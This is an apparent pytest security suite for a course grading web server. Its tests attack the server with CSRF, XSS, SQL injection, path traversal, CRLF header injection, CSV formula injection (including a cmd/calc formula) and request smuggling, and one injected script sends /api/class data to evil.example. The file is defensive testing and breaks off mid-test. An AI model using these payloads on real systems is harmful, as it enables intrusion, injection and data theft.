"""The course server attacked as students would attack it (issue 63's security review): reading
another's uploads, results, reports and events; forging the web forms (CSRF, login CSRF, cookies
from elsewhere) and the multipart body; injecting HTML, script and SQL through every field a
student controls; denial of service within reason (the cap under a burst, bounded connections, a
body that never ends, an event stream never read); the queue's fairness; tokens in logs and tables,
and their revocation.

Each test asserts the server's correct behaviour, against one of two servers of the same app
(create_app with the same Settings), neither with a grading worker unless a test needs a grade
(none but one here does: the store's own calls stand for a worker where a state must move), over
a real SQLite file:
- InProcess: the app in this process under Starlette's TestClient, for what a handler answers
  (404s, refusals, CSRF, the multipart body, escaping, headers): no socket, no process;
- Attacked: uvicorn in a subprocess on 127.0.0.1, for what is about the server (raw sockets, a
  Content-Length that lies, connection and stream limits, a body that never ends, event streams,
  the access log, a browser), under `timeout` and killed by process group in its finalizer.
`req` and the helpers over it take either; every request has a timeout."""

import asyncio
import base64
import csv
import hashlib
import http.client
import http.server
import inspect
import json
import re
import socket
import sqlite3
import sys
import threading
import time
import urllib.parse
from pathlib import Path

import anyio
import h11
import pytest
from conftest import SUBMISSIONS, Launched, free_port
from starlette.testclient import TestClient
from test_serve_http import CHROMIUM, Browser

import grader.serve.course as serving
from grader import __version__
from grader.core.results import Result
from grader.report.files import render_json
from grader.serve.app import create_app
from grader.serve.export import export_class
from grader.serve.fanout import DROPPED, WATCHER_QUEUE, Fanout
from grader.serve.grades import StoredGrade
from grader.serve.store import DONE, QUEUED, REPLACED, Rules, Store

EXERCISE = "bias_gelu_fused"
SRC = b"__global__ void k() {}\n"
T = 10                        # every request's timeout, seconds
SERVED = {"exercise": EXERCISE, "backend": "emulator", "leaderboard": True}    # Settings' fields, both servers'

LAUNCH = """
import json, sys
import grader.serve.course as course
from grader.serve.app import run_server
from grader.serve.course import Settings
from grader.serve.store import Rules
a = json.loads(sys.argv[1])
course.BODY_TIMEOUT_S = a["body_timeout"]
course.STREAMS_PER_PERSON = a["streams"]
run_server(Settings(__import__("pathlib").Path(a["folder"]), **a["served"], rules=Rules(**a["rules"]),
                    worker=a["worker"]), port=a["port"], connections=a["connections"])
"""


class Answer:
    def __init__(self, status: int, headers, body: bytes):
        self.status, self.headers, self.body = status, headers, body

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")

    def json(self):
        return json.loads(self.body)


class Server:
    """What Attacked and InProcess share: a request as a client writes it, the store of their folder."""

    folder: Path
    host: str                 # what the client sends as Host (an Origin naming this server names it)

    def send(self, method: str, path: str, headers: dict, body: bytes | None) -> Answer:
        raise NotImplementedError

    def request(self, method: str, path: str, *, token: str | None = None, cookie: str | None = None,
                body: bytes | None = None, headers: dict | None = None) -> Answer:
        h = dict(headers or {})
        if token is not None:
            h["Authorization"] = f"Bearer {token}"
        if cookie is not None:
            h["Cookie"] = cookie
        return self.send(method, path, h, body)

    def store(self) -> Store:
        return Store(self.folder)


class Attacked(Server):
    """A course server without a grading worker (uploads stay queued unless a test moves them with
    the store's own calls), its log in folder/server.log."""

    def __init__(self, folder: Path, *, connections: int = 2048, body_timeout: float = 60.0, streams: int = 128,
                 worker: bool = False, **rules):
        self.folder, self.port = folder, free_port()
        self.host = f"127.0.0.1:{self.port}"
        self.log = folder / "server.log"
        args = {"folder": str(folder), "port": self.port, "rules": rules, "connections": connections,
                "body_timeout": body_timeout, "streams": streams, "worker": worker, "served": SERVED}
        self.launched = Launched([sys.executable, "-c", LAUNCH, json.dumps(args)], port=self.port, log=self.log)
        self.proc = self.launched.proc

    def send(self, method: str, path: str, headers: dict, body: bytes | None) -> Answer:
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=T)
        try:
            conn.request(method, path, body=body, headers=headers)
            r = conn.getresponse()
            return Answer(r.status, r.headers, r.read())
        finally:
            conn.close()

    def stop(self) -> None:
        self.launched.stop()


AS_SENT = b"x-test-target"      # InProcess's request target as written, put back as uvicorn reads it


def as_uvicorn_reads(app):
    """The app between what uvicorn hands it and what uvicorn would send: the path as sent (httpx,
    under TestClient, drops a path's `.` and `..` segments and TestClient decodes it twice; an
    attacker's client sends them as written, and uvicorn passes them on decoded once); the answer's
    head checked as uvicorn's h11 checks it before writing it (a header holding CR, LF or NUL is
    refused, never sent); the answer within T (a stream opened by mistake fails its test, as a real
    server's would at its request's timeout)."""

    async def asgi(scope, receive, send):
        if scope["type"] != "http":
            return await app(scope, receive, send)
        target = dict(scope["headers"]).get(AS_SENT)
        if target is not None:
            raw, _, query = target.partition(b"?")
            scope = {**scope, "raw_path": raw, "path": urllib.parse.unquote(raw.decode("ascii")), "query_string": query,
                     "headers": [(k, v) for k, v in scope["headers"] if k != AS_SENT]}

        async def sending(message):
            if message["type"] == "http.response.start":
                h11.Response(status_code=message["status"], headers=list(message.get("headers", [])))
            await send(message)

        with anyio.fail_after(T):
            return await app(scope, receive, sending)

    return asgi


class InProcess(Server):
    """The app Attacked serves (create_app, the same Settings), run in this process by Starlette's
    TestClient: for the tests of what a handler answers. Its host is what the client sends (`Host:
    testserver`), so an Origin or a Referer means what it does against a real server; redirects are
    answers (never followed) and no cookie is kept between requests (each sends its own, as
    Attacked's do). Module settings LAUNCH sets (body_timeout, streams) are patched for its life,
    where given, and put back at stop()."""

    host = "testserver"

    def __init__(self, folder: Path, *, body_timeout: float | None = None, streams: int | None = None, **rules):
        self.folder = folder
        self.patched = pytest.MonkeyPatch()
        for name, value in (("BODY_TIMEOUT_S", body_timeout), ("STREAMS_PER_PERSON", streams)):
            if value is not None:
                self.patched.setattr(serving, name, value)
        app = create_app(serving.Settings(folder, **SERVED, rules=Rules(**rules), worker=False))
        self.client = TestClient(as_uvicorn_reads(app), base_url=f"http://{self.host}", follow_redirects=False)
        try:
            self.client.__enter__()                              # the app's lifespan: the course, its fan-out
        except BaseException:
            self.patched.undo()
            raise

    def send(self, method: str, path: str, headers: dict, body: bytes | None) -> Answer:
        try:
            r = self.client.request(method, path, content=body, headers={**headers, AS_SENT.decode(): path})
        finally:
            self.client.cookies.clear()                          # a Set-Cookie is read from the answer, never kept
        return Answer(r.status_code, r.headers, r.content)

    def stop(self) -> None:
        try:
            self.client.__exit__(None, None, None)
        finally:
            self.patched.undo()


def req(server: Server, method: str, path: str, **how) -> Answer:
    """server.request (how: token, cookie, body, headers), on either server."""
    return server.request(method, path, **how)


def multipart(*parts: tuple[str, str | None, bytes], boundary: str = "attackboundary42") -> tuple[bytes, str]:
    """A multipart body of (field, filename or None, bytes) parts, written by hand so that any
    filename (quotes, CR, LF, NUL) goes in as given."""
    out = b""
    for field, filename, data in parts:
        disposition = f'form-data; name="{field}"' + (f'; filename="{filename}"' if filename is not None else "")
        out += (f"--{boundary}\r\nContent-Disposition: {disposition}\r\n".encode("utf-8", "surrogateescape")
                + (b"Content-Type: application/octet-stream\r\n" if filename is not None else b"") + b"\r\n" + data
                + b"\r\n")
    return out + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


def api_upload(server: Server, token: str, data: bytes = SRC, filename: str = "k.cu", extra=()) -> Answer:
    body, kind = multipart(("file", filename, data), *extra)
    return req(server, "POST", "/api/submissions", token=token, body=body, headers={"Content-Type": kind})


def csrf_of(server: Server, token: str) -> str:
    page = req(server, "GET", "/", cookie=f"grader_session={token}")
    return re.search(r'name="csrf" value="([0-9a-f]+)"', page.text).group(1)


def stored_grade(report_html: str = "", status: str = "compile_error"):
    """A real result.json text (as a worker stores it) of a grade that did not build, as the store takes
    it (serve/grades.StoredGrade), with report_html for its report."""
    text = render_json(Result(exercise=EXERCISE, submission={"path": "k.cu", "sha256": "0" * 64}, backend="emulator",
                              status=status, grader_version=__version__, message="error: expected ';'"))
    return StoredGrade(text, "", report_html, status, None, None, None)


def issue(folder: Path, *students: str) -> dict[str, str]:
    store = Store(folder)
    try:
        people = {s: store.issue(s) for s in students}
        people["@instructor"] = store.issue("@instructor", instructor=True)
    finally:
        store.close()
    return people


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    folder = tmp_path_factory.mktemp("attacked")
    people = issue(folder, "ann", "bob", "eve", "cap", "quiet")
    server = InProcess(folder, max_bytes=4096)
    yield server, people
    server.stop()


def visible_ids(server, token) -> set:
    return set(re.findall(r'data-id="([^"]+)"', req(server, "GET", "/", cookie=f"grader_session={token}").text))


# --- reading another student's upload, result, report or events ------------------------------------

def test_another_students_id_guessed_enumerated_or_path_tricked_answers_404(course):
    server, people = course
    ann = api_upload(server, people["ann"])
    assert ann.status == 202
    aid = ann.json()["id"]
    own = req(server, "GET", f"/api/submissions/{aid}", token=people["ann"])
    assert own.status == 200 and own.json()["student"] == "ann"
    quoted = urllib.parse.quote
    tries = [aid, aid.upper(), aid.lower(), aid[:-1], aid + "x", aid[:-1] + ("A" if aid[-1] != "A" else "B"),
             f"{aid}%00", f"..%2f{aid}", f"%2e%2e/{aid}", f"..%2F..%2Fapi%2Fsubmissions%2F{aid}", f"{quoted(aid)}%20",
             "1", "0", "-1", "%2a", "*", "%25", "' OR '1'='1", "..", "%2e%2e", ".%2e/%2e%2e/class"]
    for t in tries:
        for suffix in ("", "/events", "/report"):
            base = "/submissions/" if suffix == "/report" else "/api/submissions/"
            path = base + quoted(t, safe="%/") + suffix
            got = req(server, "GET", path, token=people["bob"])
            assert got.status == 404, (path, got.status, got.text)
            assert aid not in got.text and "ann" not in got.text
            assert req(server, "GET", path, cookie=f"grader_session={people['bob']}").status == 404
    # ids are random, not a pattern one's own uploads reveal
    mine = [api_upload(server, people["eve"]).json()["id"] for _ in range(3)]
    assert len({len(i) for i in mine + [aid]}) == 1 and len(aid) >= 16
    assert len({i[:6] for i in mine + [aid]}) == 4            # no shared prefix, no counter
    assert aid not in visible_ids(server, people["bob"]) and aid in visible_ids(server, people["ann"])


def test_the_instructors_pages_and_streams_refuse_a_students_token(course):
    server, people = course
    api_upload(server, people["ann"])
    for path in ("/api/class", "/api/class/events", "/class/", "/class/ann/report.html", "/students/ann",
                 "/students/..%2Fann", "/students/ann/../bob"):
        for how in ({"token": people["bob"]}, {"cookie": f"grader_session={people['bob']}"}):
            got = req(server, "GET", path, **how)
            assert got.status in (403, 404), (path, got.status)
            assert "ann" not in got.text, path
    # the instructor's token cannot submit (it would land in the class as "@instructor")
    assert api_upload(server, people["@instructor"]).status == 403


def test_a_token_in_a_query_string_or_a_cookie_sent_from_another_site_is_no_session(course):
    server, people = course
    aid = api_upload(server, people["ann"]).json()["id"]
    for query in ("token", "access_token", "grader_session", "authorization"):
        got = req(server, "GET", f"/api/submissions/{aid}?{query}={people['ann']}")
        assert got.status == 401, query
        assert "login" in req(server, "GET", f"/?{query}={people['ann']}").text
    cookie = f"grader_session={people['ann']}"
    # another site's script (fetch, an <img>, an EventSource) carries the cookie only where
    # SameSite fails; the server refuses such a request anyway (Fetch Metadata)
    for site, mode, dest in (("cross-site", "cors", "empty"), ("cross-site", "no-cors", "image"),
                             ("same-site", "cors", "empty")):
        meta = {"Sec-Fetch-Site": site, "Sec-Fetch-Mode": mode, "Sec-Fetch-Dest": dest}
        for path in (f"/api/submissions/{aid}", f"/api/submissions/{aid}/events", "/api/class"):
            assert req(server, "GET", path, cookie=cookie, headers=meta).status == 401, (path, site)
    # a link followed from elsewhere still opens one's page; the same-origin page's own requests work
    nav = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
    assert 'id="upload"' in req(server, "GET", "/", cookie=cookie, headers=nav).text
    same = {"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}
    assert req(server, "GET", f"/api/submissions/{aid}", cookie=cookie, headers=same).status == 200
    # no CORS: another origin's script may not read an answer, and no cache between keeps one
    got = req(server, "GET", f"/api/submissions/{aid}", token=people["ann"], headers={"Origin": "https://evil.example"})
    assert got.status == 200 and not any(k.lower().startswith("access-control-") for k in got.headers)
    assert got.headers["Cache-Control"] == "no-store"
    pre = req(server, "OPTIONS", f"/api/submissions/{aid}", headers={"Origin": "https://evil.example",
                                                                     "Access-Control-Request-Method": "GET",
                                                                     "Access-Control-Request-Headers": "authorization"})
    assert not any(k.lower().startswith("access-control-") for k in pre.headers)
    # two session cookies (one tossed in by a sibling site or another path): neither counts
    two = f"grader_session={people['eve']}; grader_session={people['ann']}"
    assert req(server, "GET", f"/api/submissions/{aid}", cookie=two).status == 401
    page = req(server, "GET", "/", cookie=two).text
    assert 'id="login"' in page and "two sign-in cookies" in page


def test_revocation_takes_effect_at_once_even_on_open_event_streams(tmp_path):
    people = issue(tmp_path, "ann", "bob")
    server = Attacked(tmp_path)
    streams = []
    try:
        aid = api_upload(server, people["ann"]).json()["id"]            # no worker: it stays queued, its stream open

        def opened(path, token):
            s = socket.create_connection(("127.0.0.1", server.port), timeout=T)
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: {server.host}\r\nAuthorization: Bearer {token}\r\n\r\n".encode())
            assert b"200 OK" in s.recv(4096)
            streams.append(s)
            return s

        mine, theirs = opened(f"/api/submissions/{aid}/events", people["ann"]), opened("/api/class/events",
                                                                                       people["@instructor"])
        store = server.store()
        store.revoke("ann")
        store.revoke("@instructor")
        store.close()
        assert req(server, "GET", f"/api/submissions/{aid}", token=people["ann"]).status == 401
        assert req(server, "GET", "/api/class", token=people["@instructor"]).status == 401
        assert 'id="login"' in req(server, "GET", "/", cookie=f"grader_session={people['ann']}").text
        for s in (mine, theirs):                 # each open stream ends by itself (at the next tick)
            s.settimeout(60)
            deadline = time.monotonic() + 60     # a hang's guard: a stream left open never ends
            while time.monotonic() < deadline:
                chunk = s.recv(65536)
                if not chunk or chunk.endswith(b"0\r\n\r\n"):      # closed, or the chunked body's end
                    break
            else:
                raise AssertionError("a revoked token's event stream stayed open")
    finally:
        for s in streams:
            s.close()
        server.stop()


# --- forging -----------------------------------------------------------------------------------------

def test_signing_in_from_another_sites_form_is_refused_login_csrf(course):
    server, people = course
    form = urllib.parse.urlencode({"token": people["eve"]}).encode()
    kind = {"Content-Type": "application/x-www-form-urlencoded"}
    for forged in ({"Origin": "https://evil.example"}, {"Origin": "null"}, {"Referer": "https://evil.example/x"},
                   {"Origin": f"http://{server.host}.evil.example"}, {"Sec-Fetch-Site": "cross-site"},
                   {"Sec-Fetch-Site": "same-site", "Origin": f"http://{server.host}"}):
        got = req(server, "POST", "/login", body=form, headers={**kind, **forged})
        assert got.status == 403 and "set-cookie" not in {k.lower() for k in got.headers}, forged
    ok = req(server, "POST", "/login", body=form, headers={**kind, "Origin": f"http://{server.host}",
                                                           "Sec-Fetch-Site": "same-origin"})
    assert ok.status == 303
    cookie = ok.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie and "path=/;" in cookie + ";"
    assert "domain=" not in cookie                                    # this host only, no sibling sites
    assert req(server, "POST", "/login", body=b"token=" + people["eve"].encode() + b"x", headers=kind).status == 401


def test_the_upload_form_refuses_a_missing_foreign_or_cross_site_csrf_token(course):
    server, people = course
    store = server.store()
    before = len(store.attempts("quiet"))
    cookie = f"grader_session={people['quiet']}"
    mine, theirs = csrf_of(server, people["quiet"]), csrf_of(server, people["bob"])
    origin = {"Origin": f"http://{server.host}"}
    for csrf, extra in ((None, origin), ("", origin), ("0" * 64, origin), (theirs, origin),
                        (mine, {"Origin": "https://evil.example"}), (mine, {"Referer": "https://evil.example/p"}),
                        (mine, {"Origin": "null"}), (mine, {**origin, "Sec-Fetch-Site": "cross-site"})):
        fields = [("file", "k.cu", SRC)] + ([("csrf", None, csrf.encode())] if csrf is not None else [])
        body, kind = multipart(*fields)
        got = req(server, "POST", "/upload", cookie=cookie, body=body,
                  headers={"Content-Type": kind, "Accept": "application/json", **extra})
        assert got.status in (401, 403), (csrf, extra, got.status)      # 401: a cross-site POST carries no session
    assert len(store.attempts("quiet")) == before                      # nothing kept from a forged form
    # the alias form and sign-out: the same
    alias = urllib.parse.urlencode({"csrf": mine, "alias": "forged alias"}).encode()
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    assert req(server, "POST", "/alias", cookie=cookie, body=alias,
               headers={**form, "Origin": "https://evil.example"}).status == 403
    assert req(server, "POST", "/logout", cookie=cookie, body=b"csrf=" + theirs.encode(), headers=form).status == 403
    # the page's own form, from the page's origin, is taken
    body, kind = multipart(("csrf", None, mine.encode()), ("file", "k.cu", SRC))
    got = req(server, "POST", "/upload", cookie=cookie, body=body,
              headers={"Content-Type": kind, "Accept": "application/json", **origin, "Sec-Fetch-Site": "same-origin"})
    assert got.status == 202 and len(store.attempts("quiet")) == before + 1
    store.close()


def test_multipart_tricks_names_bytes_sizes_and_fields(course):
    server, people = course
    store = server.store()
    token = people["bob"]

    def name_of(answer):
        assert answer.status == 202, answer.text
        return store.upload(answer.json()["id"])["name"]

    assert name_of(api_upload(server, token, filename="../../x.cu")) == "x.cu"
    assert name_of(api_upload(server, token, filename="..\\..\\win.cu")) == "win.cu"
    assert name_of(api_upload(server, token, filename="/etc/passwd")) == "passwd"
    assert name_of(api_upload(server, token, filename="..")) == "kernel.cu"
    for formula in ('=HYPERLINK("http://evil.example/"&A1).cu', "+1+cmd|' /C calc'!A0.cu", "-2+3.cu", "@SUM(1).cu"):
        assert name_of(api_upload(server, token, filename=formula))[0] not in "=+-@"     # no formula in the CSVs
    weird = name_of(api_upload(server, token, filename="a\x00b\x01c.cu"))
    assert "\x00" not in weird and "\x01" not in weird and weird.endswith(".cu")
    for length in (300, 5000):                  # a long name: kept short, or the form refused (its part's header)
        long = api_upload(server, token, filename="n" * length + ".cu")
        assert long.status == 400 if long.status != 202 else len(name_of(long)) <= 128
    # bytes that are not UTF-8 are kept as sent (the grade says what it makes of them)
    raw = b"\xff\xfe\x00__global__ \xc3\x28 void k() {}\n"
    got = api_upload(server, token, data=raw)
    assert got.status == 202 and store.data(got.json()["id"]) == raw
    # an empty file: refused, nothing kept, not counted against the cap
    empty = api_upload(server, token, data=b"")
    assert empty.status == 400 and "empty" in empty.json()["error"]
    # exactly the limit is taken; one byte over is 413
    assert api_upload(server, people["cap"], data=b"/" * 4096).status == 202
    over = api_upload(server, people["cap"], data=b"/" * 4097)
    assert over.status == 413 and "4096" in over.json()["error"]
    # two `file` fields: refused, none kept
    n = len(store.attempts("cap"))
    body, kind = multipart(("file", "a.cu", SRC), ("file", "b.cu", SRC))
    assert req(server, "POST", "/api/submissions", token=people["cap"], body=body,
               headers={"Content-Type": kind}).status == 400
    assert len(store.attempts("cap")) == n
    store.close()


def send_raw(server: Attacked, head: bytes, body: bytes, *, close_after: bool = True, wait: float = 5) -> bytes:
    with socket.create_connection(("127.0.0.1", server.port), timeout=T) as s:
        s.sendall(head + body)
        if close_after:
            s.shutdown(socket.SHUT_WR)
        s.settimeout(wait)
        got = b""
        try:
            while chunk := s.recv(65536):
                got += chunk
        except socket.timeout:
            pass
        return got


@pytest.fixture
def real_course(tmp_path):
    """The course's rules on a real server (Attacked) of its own: for raw sockets, where uvicorn's
    own reading of a request is under test."""
    people = issue(tmp_path, "eve")
    server = Attacked(tmp_path, max_bytes=4096)
    yield server, people
    server.stop()


def test_a_content_length_that_lies_keeps_nothing_and_breaks_nothing(real_course):
    server, people = real_course
    store = server.store()
    before = len(store.attempts("eve"))
    body, kind = multipart(("file", "k.cu", SRC))
    head = (f"POST /api/submissions HTTP/1.1\r\nHost: {server.host}\r\nAuthorization: Bearer {people['eve']}\r\n"
            f"Content-Type: {kind}\r\n").encode()
    # shorter than the body: the form is cut, refused; the rest is not taken as a second request
    short = send_raw(server, head + f"Content-Length: {len(body) // 2}\r\n\r\n".encode(), body)
    assert short.startswith(b"HTTP/1.1 400"), short[:200]
    # far longer than the limit: refused on the header, before the body is read
    huge = send_raw(server, head + b"Content-Length: 999999999\r\n\r\n", body, close_after=False, wait=3)
    assert huge.startswith(b"HTTP/1.1 413"), huge[:200]
    # longer than what is sent, then the client goes: nothing kept
    send_raw(server, head + f"Content-Length: {len(body) + 500}\r\n\r\n".encode(), body, wait=1)
    # two Content-Lengths, or one with Transfer-Encoding: refused by the HTTP parser
    two = send_raw(server, head + f"Content-Length: {len(body)}\r\nContent-Length: 5\r\n\r\n".encode(), body)
    assert two.startswith(b"HTTP/1.1 400") or two == b""
    smuggle = send_raw(server, head + f"Content-Length: {len(body)}\r\nTransfer-Encoding: chunked\r\n\r\n".encode(), body)
    assert not smuggle.startswith(b"HTTP/1.1 202")
    time.sleep(0.3)
    assert len(store.attempts("eve")) == before
    assert api_upload(server, people["eve"]).status in (202, 429)          # the server still answers
    store.close()


def test_connections_of_one_student_are_bounded_event_streams_too(tmp_path):
    people = issue(tmp_path, "hog", "ann")
    server = Attacked(tmp_path, streams=4)
    held = []
    try:
        hog, ann = api_upload(server, people["hog"]).json()["id"], api_upload(server, people["ann"]).json()["id"]

        def stream(upload, token) -> bytes:
            s = socket.create_connection(("127.0.0.1", server.port), timeout=T)
            s.sendall(f"GET /api/submissions/{upload}/events HTTP/1.1\r\nHost: {server.host}\r\n"
                      f"Authorization: Bearer {token}\r\n\r\n".encode())
            held.append(s)
            return s.recv(4096)

        assert all(stream(hog, people["hog"]).startswith(b"HTTP/1.1 200") for _ in range(4))
        over = stream(hog, people["hog"])
        assert over.startswith(b"HTTP/1.1 429") and b"retry-after" in over.lower()
        assert stream(ann, people["ann"]).startswith(b"HTTP/1.1 200")          # another student's are their own
        held.pop(0).close()                                                   # one closed: one more may open
        deadline = time.monotonic() + 60                                    # a hang's guard
        while not stream(hog, people["hog"]).startswith(b"HTTP/1.1 200"):
            assert time.monotonic() < deadline
            time.sleep(0.2)
    finally:
        for s in held:
            s.close()
        server.stop()


# --- injection ---------------------------------------------------------------------------------------

HOSTILE = '"><img src=x onerror=alert(1)><script>alert(2)<\\script>'


def test_html_and_script_in_identifiers_filenames_and_aliases_are_escaped(tmp_path):
    people = issue(tmp_path, HOSTILE, "plain")
    server = InProcess(tmp_path)
    try:
        got = api_upload(server, people[HOSTILE], filename='"><svg onload=alert(3)>.cu')
        assert got.status == 202
        api_upload(server, people["plain"], filename="<script>alert(4)</script>.cu")
        store = server.store()
        store.claim_wave()
        store.finish(got.json()["id"], stored_grade("<p>r</p>"))
        store.close()
        pages = [req(server, "GET", "/", cookie=f"grader_session={people['@instructor']}"),
                 req(server, "GET", "/students/" + urllib.parse.quote(HOSTILE, safe=""), token=people["@instructor"]),
                 req(server, "GET", "/", cookie=f"grader_session={people[HOSTILE]}"),
                 req(server, "GET", "/", cookie=f"grader_session={people['plain']}"),
                 req(server, "GET", "/class/", token=people["@instructor"])]
        for page in pages:
            assert page.status == 200
            for raw in ("<img src=x", "<script>alert", "<svg onload", 'onerror=alert(1)>'):
                assert raw not in page.text, (raw, page.text[:400])
        assert "&lt;img src=x onerror=alert(1)&gt;" in pages[0].text or "&#34;&gt;&lt;img" in pages[0].text
        csp = pages[0].headers["Content-Security-Policy"]
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("script-src", 1)[1].split(";")[0]
        assert pages[0].headers["X-Frame-Options"] == "DENY"
        # the JSON answers are JSON, never sniffed as HTML
        doc = req(server, "GET", "/api/class", token=people["@instructor"])
        assert doc.headers["Content-Type"].startswith("application/json") and doc.headers["X-Content-Type-Options"] == "nosniff"
        assert HOSTILE in {r["student"] for r in doc.json()["students"]}       # kept as given, escaped where shown
        # the class report's own sorting script runs (allowed by its hash), no other inline script would
        script_src = pages[4].headers["Content-Security-Policy"].split("script-src", 1)[1].split(";")[0]
        assert "unsafe-inline" not in script_src and "sandbox" not in pages[4].headers["Content-Security-Policy"]
        inline = re.findall(r"<script>(.*?)</script>", pages[4].text, re.S)
        assert inline and all("'sha256-" + base64.b64encode(hashlib.sha256(b.encode()).digest()).decode() + "'"
                              in script_src for b in inline)
        wrong = api_upload(server, people["plain"], extra=[("exercise", None, b"<script>alert(5)</script>")])
        assert wrong.status == 400 and wrong.headers["Content-Type"].startswith("application/json")
        assert wrong.headers["X-Content-Type-Options"] == "nosniff"
    finally:
        server.stop()


def test_sql_metacharacters_in_every_field_and_header_are_data(tmp_path):
    evil = "x'); DROP TABLE uploads; --"
    people = issue(tmp_path, evil, "ann")
    server = InProcess(tmp_path)
    try:
        got = api_upload(server, people[evil], filename="'; DELETE FROM uploads; --.cu",
                         data=b"/* ' OR 1=1; -- */\n" + SRC, extra=[("exercise", None, b"' OR '1'='1")])
        assert got.status == 400                                            # another exercise: said, not run
        got = api_upload(server, people[evil], filename="'; DELETE FROM uploads; --.cu")
        assert got.status == 202
        assert api_upload(server, people["ann"]).status == 202
        for token in ("' OR '1'='1", "' OR 1=1 --", '" OR ""="', "x' UNION SELECT hash FROM tokens --"):
            assert req(server, "GET", "/api/class", token=token).status == 401
            assert req(server, "GET", "/", cookie=f"grader_session={token}").text.count('id="login"') == 1
        for i in ("' OR '1'='1", "x' UNION SELECT * FROM uploads --", "%27%20OR%201%3D1"):
            assert req(server, "GET", "/api/submissions/" + urllib.parse.quote(i, safe="%"), token=people["ann"]).status == 404
        hdr = {"X-Forwarded-For": "1' OR '1'='1", "User-Agent": "'; DROP TABLE tokens; --", "Accept": "' OR 1=1"}
        assert req(server, "GET", "/api/submissions/" + got.json()["id"], token=people[evil], headers=hdr).status == 200
        csrf = csrf_of(server, people["ann"])
        alias = urllib.parse.urlencode({"csrf": csrf, "alias": "a' OR '1'='1"}).encode()
        assert req(server, "POST", "/alias", cookie=f"grader_session={people['ann']}", body=alias,
                   headers={"Content-Type": "application/x-www-form-urlencoded"}).status == 400
        with sqlite3.connect(tmp_path / "grader.sqlite") as db:
            names = {r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
            rows = db.execute("SELECT student, name FROM uploads ORDER BY seq").fetchall()
        assert {"uploads", "tokens", "events"} <= names
        assert rows == [(evil, "'; DELETE FROM uploads; --.cu"), ("ann", "k.cu")]
    finally:
        server.stop()


def test_a_served_report_runs_no_script_in_the_servers_origin(course):
    """A report quotes the student's source: whatever it holds (`</script>`, an inline handler),
    it is served sandboxed, with no script allowed and nothing loaded from elsewhere."""
    server, people = course
    aid = api_upload(server, people["quiet"]).json()["id"]
    store = server.store()
    while store.upload(aid)["state"] == QUEUED:
        store.claim_wave()
    hostile = ('<pre>// </script><script>fetch("/api/class").then(r => r.text()).then(t => '
               'location = "https://evil.example/?" + t)</script><img src=x onerror="alert(1)"></pre>')
    assert store.finish(aid, stored_grade(hostile))
    store.close()
    got = req(server, "GET", f"/submissions/{aid}/report", cookie=f"grader_session={people['quiet']}")
    assert got.status == 200
    csp = [d.strip() for d in got.headers["Content-Security-Policy"].split(";")]
    assert "default-src 'none'" in csp and "sandbox" in csp                 # an opaque origin: no cookie, no API
    assert not any(d.startswith("script-src") for d in csp)                 # no script at all
    assert not any("allow-scripts" in d or "allow-same-origin" in d for d in csp)
    assert got.headers["X-Content-Type-Options"] == "nosniff" and got.headers["Referrer-Policy"] == "no-referrer"
    assert req(server, "GET", f"/submissions/{aid}/report", token=people["bob"]).status == 404


def test_the_export_writes_no_formula_and_no_path_a_student_chose(tmp_path):
    Store(tmp_path).close()
    store = Store(tmp_path)
    store.set_setting("exercise", EXERCISE)
    store.issue("ann")
    got = store.accept("ann", serving.clean_name('../../=HYPERLINK("http://evil.example/"&A1).cu'), SRC, Rules())
    store.claim_wave()
    store.finish(got.id, stored_grade("<p>r</p>"))
    store.close()
    out = tmp_path / "out"
    export_class(tmp_path, out=out)
    for name in ("summary.csv", "gradebook.csv"):
        with open(out / name, newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert cells and not any(c[:1] in ("=", "+", "@") for c in cells), (name, cells)
    assert sorted(p.name for p in out.iterdir() if p.is_dir()) == ["ann"]      # nothing written beside the out folder
    assert not (tmp_path / "=HYPERLINK(").exists()


def test_a_real_grade_quoting_script_in_the_source_serves_it_escaped_and_sandboxed(tmp_path):
    """The one real grade here (compile_error.cu on the emulator, a couple of seconds): the line the
    compiler quotes holds `</script><script>` and an inline handler."""
    people = issue(tmp_path, "ann")
    source = (SUBMISSIONS / "compile_error.cu").read_text().replace(
        "+ colls;", "+ colls; // </script><script>location='/pwned'</script><img src=x onerror=alert(1)>")
    assert "</script>" in source
    server = Attacked(tmp_path, worker=True)
    try:
        aid = api_upload(server, people["ann"], data=source.encode(), filename="</script><b>x</b>.cu").json()["id"]
        deadline = time.monotonic() + 180
        while (doc := req(server, "GET", f"/api/submissions/{aid}", token=people["ann"]).json())["state"] != "done":
            assert time.monotonic() < deadline, server.log.read_text()[-2000:]
            time.sleep(0.3)
        assert doc["result"]["status"] == "compile_error"
        got = req(server, "GET", f"/submissions/{aid}/report", cookie=f"grader_session={people['ann']}")
    finally:
        server.stop()
    assert got.status == 200 and "colls" in got.text                   # the quoted line is there...
    for raw in ("<script>location", "<img src=x", "<b>x</b>"):
        assert raw not in got.text, raw                                  # ... escaped
    csp = [d.strip() for d in got.headers["Content-Security-Policy"].split(";")]
    assert "sandbox" in csp and "default-src 'none'" in csp and not any(d.startswith("script-src") for d in csp)


def test_a_crlf_in_a_filename_injects_no_header(course):
    server, people = course
    got = api_upload(server, people["eve"], filename="a.cu\r\nSet-Cookie: grader_session=stolen\r\nX-Evil: 1")
    assert got.status in (202, 400, 429)
    assert "set-cookie" not in {k.lower() for k in got.headers} and "x-evil" not in {k.lower() for k in got.headers}
    if got.status == 202:
        store = server.store()
        name = store.upload(got.json()["id"])["name"]
        store.close()
        assert "\r" not in name and "\n" not in name


# --- denial of service, within reason ------------------------------------------------------------------

def test_the_hourly_cap_holds_under_a_concurrent_burst(tmp_path):
    people = issue(tmp_path, "flood", "calm")
    server = Attacked(tmp_path, per_hour=3)
    try:
        results: list = []
        threads = [threading.Thread(target=lambda: results.append(api_upload(server, people["flood"]))) for _ in range(12)]
        for t in threads:
            t.start()
        for t in threads:
